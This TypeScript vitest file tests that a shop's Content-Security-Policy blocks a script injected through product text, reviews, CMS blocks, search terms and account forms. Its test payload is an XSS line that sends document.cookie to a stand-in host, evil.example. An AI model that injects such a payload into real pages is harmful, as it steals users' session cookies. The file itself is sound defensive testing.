import { hash } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { systemClock } from '../../src/platform/clock.ts';
import { href } from '../../src/tenants/paths.ts';
import { SCRIPT_MARK } from '../../src/web/security.ts';
import { seedReviews } from '../reviews/support.ts';
import { type CachedShop, openCachedShop } from '../support/cached-shop.ts';
import { type TestDatabase, testDatabase } from '../support/database.ts';
import { seedProduct } from '../support/seed.ts';

/**
 * The Content-Security-Policy allows scripts of the renderer alone. Each page contains a text of a person, and here its
 * escaping fails: the text becomes a script in the finished page.
 */

const TEXT = 'Wort0815';
const EVIL = 'fetch("https://evil.example/?"+document.cookie)';
const INJECTED = `<script>${EVIL}</script>`;
const sha256 = (script: string) => `'sha256-${hash('sha256', script, 'base64')}'`;

let database: TestDatabase;
let shop: CachedShop;
beforeAll(async () => {
  database = await testDatabase();
  const { pool } = database;
  await seedProduct(pool, { id: 'vase', title: `Vase ${TEXT}`, variants: [{ sku: 'vase-1', stock: 50 }] });
  await seedReviews(pool, { productId: 'vase', sku: 'vase-1', stars: [5, 4] });
  await pool.query('update review set body = $1, title = $1', [`Schön ${TEXT}`]);
  await pool.query('update product_text set description = $1', [`Aus Ton ${TEXT}`]);
  await seedPage();
  shop = await openCachedShop(database.url, systemClock);
  const { pages } = shop.state;
  shop.state.pages = {
    ...pages,
    answer: (request, { takePage, ...about }) =>
      pages.answer(request, {
        ...about,
        takePage: (parts) => takePage?.(parts.map((part) => part.replaceAll(TEXT, INJECTED))),
      }),
  };
}, 120_000);
/** Publishes a content page with a text of an editor. */
async function seedPage(): Promise<void> {
  const blocks = JSON.stringify([{ type: 'text', title: TEXT, paragraphs: [TEXT], list: [] }]);
  await database.pool.query(
    `with page as (
       insert into content_page (tenant, locale, path, identifier) values ('ch', 'de-CH', '/ueber-uns', 'ueber-uns')
       returning id),
     version as (
       insert into content_version (page_id, version, title, description, robots, blocks, created_at)
       select id, 1, 'Über uns', '', 'index,follow', $1, now() from page returning page_id)
     insert into content_turn (page_id, at, version, made_at) select page_id, now(), 1, now() from version`,
    [blocks],
  );
}

afterAll(async () => {
  await shop?.close();
  await database?.drop();
});

/** Inline scripts of a page that browsers run. */
const inlineScripts = (html: string): string[] =>
  [...html.matchAll(/<script(?![^>]*(?:src=|application\/(?:ld\+)?json))[^>]*>(.*?)<\/script>/gs)].map(
    ([, text = '']) => text,
  );

test.each([
  ['product text', '/p/vase/vase-1'],
  ['review', '/p/vase/vase-1/bewertungen'],
  ['block of the CMS', '/ueber-uns'],
  ['search term', `${href('de-CH', 'search')}?q=${TEXT}`],
  ['form of a personal page', `${href('de-CH', 'account')}?next=/${TEXT}`],
])('a script injected by a %s is not allowed', async (_, path) => {
  const answer = await shop.browse(path);
  const html = await answer.text();
  expect(html).toContain(INJECTED);
  const policy = answer.headers.get('content-security-policy') ?? '';
  const allowed = /script-src ([^;]*)/.exec(policy)?.[1] ?? '';
  expect(allowed).not.toMatch(/unsafe|nonce|strict-dynamic/);
  expect(allowed).not.toContain(sha256(EVIL));
  // The page still runs its own scripts: those are all others.
  const own = inlineScripts(html).filter((script) => script !== EVIL);
  expect(own.length).toBeGreaterThan(1);
  for (const script of own) expect(allowed).toContain(sha256(script));
  expect(html).not.toContain(SCRIPT_MARK);
});

test('does not send the mark of its scripts', async () => {
  for (const path of ['/', '/p/vase/vase-1', '/p/vase/vase-1.data', '/offline', href('de-CH', 'basket')]) {
    const answer = await shop.browse(path);
    expect(JSON.stringify([...answer.headers]) + (await answer.text()), path).not.toContain(SCRIPT_MARK);
  }
});
